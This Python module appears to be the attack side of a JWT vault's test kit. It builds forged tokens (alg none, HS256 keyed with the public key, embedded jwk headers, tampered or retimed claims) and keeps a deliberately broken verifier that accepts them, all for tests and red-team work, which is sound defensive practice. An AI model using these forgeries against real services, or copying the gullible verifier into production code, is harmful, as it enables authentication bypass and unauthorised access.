"""The attacker's workbench for tokens. DELIBERATELY HOSTILE: nothing here is safe to use.

Every function in this module builds a token that a correct verifier must
refuse: a claim edited under an old signature, ``alg: none``, an HMAC keyed
with the vault's *public* key (key confusion), a token signed by the
attacker's own key, a header that smuggles in the attacker's key, a missing
claim under a fresh valid signature, a stale or premature lifetime.
:func:`catalogue` bundles them with the error a correct verifier raises, so
the notebooks, the red-team suite and the tests all run the same attacks.

Nothing here verifies anything. :func:`peek` is an UNVERIFIED read of a
token for display: it shows what a token *claims*, never what it proves, and
it shortens the signature so no full token ever reaches an output.
"""

from __future__ import annotations

import base64
import hashlib
import hmac
import json
from collections.abc import Mapping
from dataclasses import dataclass, field
from typing import Any, Literal

import jwt
from cryptography.exceptions import InvalidSignature
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PublicKey

from .errors import (
    BadSignatureError,
    DisallowedAlgorithmError,
    ExpiredTokenError,
    InvalidClaimError,
    MalformedTokenError,
    MissingClaimError,
    NotYetValidError,
    TokenError,
    UnknownKeyError,
    WrongAudienceError,
    WrongIssuerError,
)
from .keys import SigningKey, b64url
from .tokens import ALGORITHM, REQUIRED_CLAIMS, TOKEN_TYPE

PublicKeyLike = SigningKey | Ed25519PublicKey | Mapping[str, Any] | bytes


# --- the raw material: base64url JSON segments ---------------------------------------------

def _segment(obj: Mapping[str, Any]) -> str:
    return b64url(json.dumps(dict(obj), separators=(",", ":")).encode())


def _unsegment(part: str) -> Any:
    return json.loads(base64.urlsafe_b64decode(part + "=" * (-len(part) % 4)))


def _split(token: str) -> tuple[dict[str, Any], dict[str, Any], str]:
    """Header, payload and the (untouched) signature segment of a compact JWS.

    Raises:
        MalformedTokenError: not three segments of base64url JSON objects.
    """
    parts = token.split(".") if isinstance(token, str) else []
    if len(parts) != 3:
        raise MalformedTokenError("a token has exactly three dot-separated parts")
    try:
        header, payload = _unsegment(parts[0]), _unsegment(parts[1])
    except (ValueError, TypeError):
        raise MalformedTokenError("the token's header or payload is not base64url JSON") from None
    if not isinstance(header, dict) or not isinstance(payload, dict):
        raise MalformedTokenError("the token's header and payload must be JSON objects")
    return header, payload, parts[2]


def _edit(base: Mapping[str, Any], changes: Mapping[str, Any]) -> dict[str, Any]:
    """``base`` with ``changes`` applied; a change to ``None`` removes the field."""
    edited = dict(base)
    for name, value in changes.items():
        if value is None:
            edited.pop(name, None)
        else:
            edited[name] = value
    return edited


# --- display ----------------------------------------------------------------------------

def peek(token: str) -> dict[str, Any]:
    """An UNVERIFIED look inside a token, safe to print: header, claims, signature shortened.

    This proves nothing about the token: anyone can write any header and
    claims. It exists so notebooks can show a token without printing it whole.

    Raises:
        MalformedTokenError: not a compact JWS with JSON header and payload.
    """
    header, payload, signature = _split(token)
    return {"header": header, "claims": payload, "signature": signature[:8] + "..."}


# --- forgeries that keep the old signature ------------------------------------------------

def tamper(token: str, **changes: Any) -> str:
    """Edit claims of ``token`` and keep its old signature (``None`` removes a claim).

    A verifier that checks the signature refuses it with BadSignatureError.
    """
    header, payload, signature = _split(token)
    return f"{_segment(header)}.{_segment(_edit(payload, changes))}.{signature}"


def drop_claim(token: str, claim: str) -> str:
    """``token`` re-encoded without ``claim``, old signature kept."""
    return tamper(token, **{claim: None})


def swap_header(token: str, **header: Any) -> str:
    """Edit the header of ``token`` (``None`` removes a field) and keep its old signature."""
    old, payload, signature = _split(token)
    return f"{_segment(_edit(old, header))}.{_segment(payload)}.{signature}"


# --- forgeries with a signature of the attacker's choosing -------------------------------

def alg_none(claims_payload: Mapping[str, Any], kid: str, *, alg: str = "none") -> str:
    """An unsigned token (``alg: none``, empty signature) naming the vault's ``kid``."""
    header = {"alg": alg, "kid": kid, "typ": TOKEN_TYPE}
    return f"{_segment(header)}.{_segment(claims_payload)}."


def public_key_bytes(public: PublicKeyLike, encoding: Literal["pem", "raw"] = "pem") -> bytes:
    """The bytes of a PUBLIC Ed25519 key as a confused verifier might hold them.

    ``public`` may be a SigningKey (only its public half is read), a public
    key, a JWK dict, or raw 32 bytes.
    """
    if isinstance(public, SigningKey):
        key = public.public
    elif isinstance(public, Ed25519PublicKey):
        key = public
    elif isinstance(public, Mapping):
        x = str(public["x"])
        key = Ed25519PublicKey.from_public_bytes(base64.urlsafe_b64decode(x + "=" * (-len(x) % 4)))
    else:
        key = Ed25519PublicKey.from_public_bytes(bytes(public))
    if encoding == "raw":
        return key.public_bytes(serialization.Encoding.Raw, serialization.PublicFormat.Raw)
    return key.public_bytes(serialization.Encoding.PEM,
                            serialization.PublicFormat.SubjectPublicKeyInfo)


def hs256_with_public_key(
    payload: Mapping[str, Any], public_jwk_or_key: PublicKeyLike, kid: str,
    *, encoding: Literal["pem", "raw"] = "pem",
) -> str:
    """Key confusion: an HS256 token whose HMAC secret is the vault's PUBLIC key.

    Anyone can build this (the public key is published in the JWKS). It
    fools a verifier that takes the algorithm from the header and hands the
    same key bytes to whichever algorithm the header names. Built with
    hmac directly, since PyJWT refuses to use an asymmetric key as an HMAC secret.
    """
    header = {"alg": "HS256", "kid": kid, "typ": TOKEN_TYPE}
    signing_input = f"{_segment(header)}.{_segment(payload)}"
    secret = public_key_bytes(public_jwk_or_key, encoding)
    mac = hmac.new(secret, signing_input.encode(), hashlib.sha256).digest()
    return f"{signing_input}.{b64url(mac)}"


def resign(payload: Mapping[str, Any], key: SigningKey, **header: Any) -> str:
    """``payload`` validly signed (EdDSA) by ``key``: the vault's, or the attacker's own.

    The header defaults to ``kid=key.kid`` and ``typ=vault+jwt``; ``header``
    overrides (``None`` removes a field, e.g. ``kid=None``). A verifier that
    only checks the signature would believe whatever this says: which is why
    a missing claim under a fresh valid signature is the real test of "required".
    """
    fields = _edit({"kid": key.kid, "typ": TOKEN_TYPE}, header)
    fields.pop("alg", None)  # PyJWT writes alg itself
    return jwt.encode(dict(payload), key.private, algorithm=ALGORITHM, headers=fields,
                      sort_headers=True)


def embedded_jwk(payload: Mapping[str, Any], attacker: SigningKey, kid: str) -> str:
    """Signed by the attacker, naming the vault's ``kid``, with the attacker's key in the header.

    Fools a verifier that trusts the ``jwk`` header (the token vouching for itself).
    """
    return resign(payload, attacker, kid=kid, jwk=attacker.public_jwk())


def retimed(payload: Mapping[str, Any], *, iat: int, nbf: int | None = None,
            exp: int) -> dict[str, Any]:
    """A copy of ``payload`` with new times (``nbf`` defaults to ``iat``)."""
    return {**payload, "iat": iat, "nbf": iat if nbf is None else nbf, "exp": exp}


def expired_copy(payload: Mapping[str, Any], key: SigningKey, *, now: int, ago: int = 60) -> str:
    """Validly signed by ``key``, lifetime as before, but expired ``ago`` seconds before ``now``."""
    ttl = int(payload["exp"]) - int(payload["iat"])
    return resign(retimed(payload, iat=now - ago - ttl, exp=now - ago), key)


def premature_copy(payload: Mapping[str, Any], key: SigningKey, *, now: int,
                   ahead: int = 600) -> str:
    """Validly signed by ``key``, issued now but valid only from ``now + ahead``."""
    ttl = int(payload["exp"]) - int(payload["iat"])
    return resign(retimed(payload, iat=now, nbf=now + ahead, exp=now + ahead + ttl), key)


# --- the victim the attacks were designed for ------------------------------------------

def gullible_verify(token: str, public: PublicKeyLike, *,
                    encoding: Literal["pem", "raw"] = "raw") -> dict[str, Any]:
    """DELIBERATELY BROKEN verifier: the token's own header chooses how it is checked.

    This is the hand-rolled verifier behind the classic JWT disclosures: it
    reads ``alg`` from the header and feeds the one key it holds (as bytes)
    to whatever algorithm that names. ``alg: none`` passes unsigned, and an
    HMAC keyed with the published public key passes as "signed". It checks
    no claim at all. Kept here, next to the attacks, to prove they are real.

    Raises:
        BadSignatureError: only when the check the attacker chose fails.
    """
    header, payload, signature = _split(token)
    signing_input = token.rsplit(".", 1)[0].encode()
    sig = base64.urlsafe_b64decode(signature + "=" * (-len(signature) % 4))
    key = public_key_bytes(public, encoding)
    alg = str(header.get("alg", "")).lower()
    if alg == "none":
        return payload
    if alg == "hs256" and hmac.compare_digest(
            hmac.new(key, signing_input, hashlib.sha256).digest(), sig):
        return payload
    if alg == "eddsa":
        try:
            Ed25519PublicKey.from_public_bytes(public_key_bytes(public, "raw")).verify(
                sig, signing_input)
            return payload
        except InvalidSignature:
            pass
    raise BadSignatureError("the signature does not match")


# --- the catalogue -----------------------------------------------------------------------

def _other(value: object, first: str, second: str) -> str:
    """A value that differs from ``value`` (so an edit is always an edit)."""
    return first if value != first else second


@dataclass(frozen=True, slots=True, kw_only=True)
class Attack:
    """One forged token, what it tries, and how a correct verifier refuses it.

    ``rejects_with[0]`` is the error the kit's Verifier raises; any of
    ``rejects_with`` is a correct refusal (two are listed only where two
    checks each rightly catch it).
    """

    name: str
    what: str
    token: str = field(repr=False)
    rejects_with: tuple[type[TokenError], ...]


def catalogue(
    payload: Mapping[str, Any], *, vault_key: SigningKey, attacker_key: SigningKey, now: int,
) -> tuple[Attack, ...]:
    """Every attack, built from one genuine ``payload`` that is valid at ``now``.

    ``vault_key`` is the key the verifier trusts (for tokens that are validly
    signed but wrong in their claims), ``attacker_key`` one it has never seen.
    The genuine token itself is ``resign(payload, vault_key)``.
    """
    genuine = resign(payload, vault_key)
    kid = vault_key.kid
    ttl = int(payload["exp"]) - int(payload["iat"])

    other_tenant = _other(payload.get("tenant"), "globex", "initech")
    other_tool = _other(payload.get("aud"), "payments", "deploys")
    other_issuer = _other(payload.get("iss"), "https://staging.vault.lab", "https://vault.evil")

    def signed(**changes: Any) -> str:
        return resign(_edit(payload, changes), vault_key)

    a = Attack
    attacks = [
        a(name="tampered-scope", what="adds an admin scope, keeps the old signature",
          token=tamper(genuine, scope=f"{payload['scope']} tickets:admin"),
          rejects_with=(BadSignatureError,)),
        a(name="tampered-tenant", what="moves the token to another tenant, old signature",
          token=tamper(genuine, tenant=other_tenant), rejects_with=(BadSignatureError,)),
        a(name="extended-expiry", what="pushes exp 30 days out, old signature",
          token=tamper(genuine, exp=int(payload["exp"]) + 30 * 86400),
          rejects_with=(BadSignatureError,)),
        a(name="dropped-exp", what="removes exp, old signature",
          token=drop_claim(genuine, "exp"), rejects_with=(BadSignatureError,)),
        a(name="alg-none", what="unsigned token, alg none",
          token=alg_none(payload, kid), rejects_with=(DisallowedAlgorithmError,)),
        a(name="alg-None", what="unsigned token, alg spelled None",
          token=alg_none(payload, kid, alg="None"), rejects_with=(DisallowedAlgorithmError,)),
        a(name="hs256-public-key-pem", what="HMAC keyed with the vault's public key (PEM)",
          token=hs256_with_public_key(payload, vault_key.public_jwk(), kid),
          rejects_with=(DisallowedAlgorithmError,)),
        a(name="hs256-public-key-raw", what="HMAC keyed with the vault's public key (raw bytes)",
          token=hs256_with_public_key(payload, vault_key.public_jwk(), kid, encoding="raw"),
          rejects_with=(DisallowedAlgorithmError,)),
        a(name="attacker-key", what="signed by the attacker's own key under its own kid",
          token=resign(payload, attacker_key), rejects_with=(UnknownKeyError,)),
        a(name="attacker-key-vault-kid", what="signed by the attacker, naming the vault's kid",
          token=resign(payload, attacker_key, kid=kid), rejects_with=(BadSignatureError,)),
        a(name="embedded-jwk", what="signed by the attacker, its own key in the jwk header",
          token=embedded_jwk(payload, attacker_key, kid), rejects_with=(BadSignatureError,)),
        a(name="no-kid", what="validly signed, but the header names no key",
          token=resign(payload, vault_key, kid=None), rejects_with=(UnknownKeyError,)),
        a(name="wrong-typ", what="a validly signed JWT of another kind (typ JWT)",
          token=resign(payload, vault_key, typ="JWT"), rejects_with=(InvalidClaimError,)),
        a(name="two-segments", what="not a JWS at all",
          token=".".join(genuine.split(".")[:2]), rejects_with=(MalformedTokenError,)),
        a(name="expired", what="validly signed, expired 60 s ago",
          token=expired_copy(payload, vault_key, now=now), rejects_with=(ExpiredTokenError,)),
        a(name="not-yet-valid", what="validly signed, valid only from 10 minutes ahead",
          token=premature_copy(payload, vault_key, now=now), rejects_with=(NotYetValidError,)),
        a(name="issued-in-future", what="validly signed, iat and nbf 10 minutes ahead",
          token=resign(retimed(payload, iat=now + 600, exp=now + 600 + ttl), vault_key),
          rejects_with=(NotYetValidError,)),
        a(name="long-lived", what="validly signed, lives 30 days",
          token=signed(exp=int(payload["iat"]) + 30 * 86400), rejects_with=(InvalidClaimError,)),
        a(name="wrong-audience", what="validly signed for another tool",
          token=signed(aud=other_tool), rejects_with=(WrongAudienceError,)),
        a(name="multi-audience", what="validly signed for this tool AND another",
          token=signed(aud=[payload["aud"], other_tool]),
          rejects_with=(InvalidClaimError, WrongAudienceError)),
        a(name="wrong-issuer", what="validly signed, but naming another vault as issuer",
          token=signed(iss=other_issuer), rejects_with=(WrongIssuerError,)),
    ]
    attacks += [
        a(name=f"missing-{claim}", what=f"validly signed without {claim}",
          token=resign(_edit(payload, {claim: None}), vault_key), rejects_with=(MissingClaimError,))
        for claim in REQUIRED_CLAIMS
    ]
    return tuple(attacks)


__all__ = [
    "Attack", "alg_none", "catalogue", "drop_claim", "embedded_jwk", "expired_copy",
    "gullible_verify", "hs256_with_public_key", "peek", "premature_copy", "public_key_bytes",
    "resign", "retimed", "swap_header", "tamper",
]
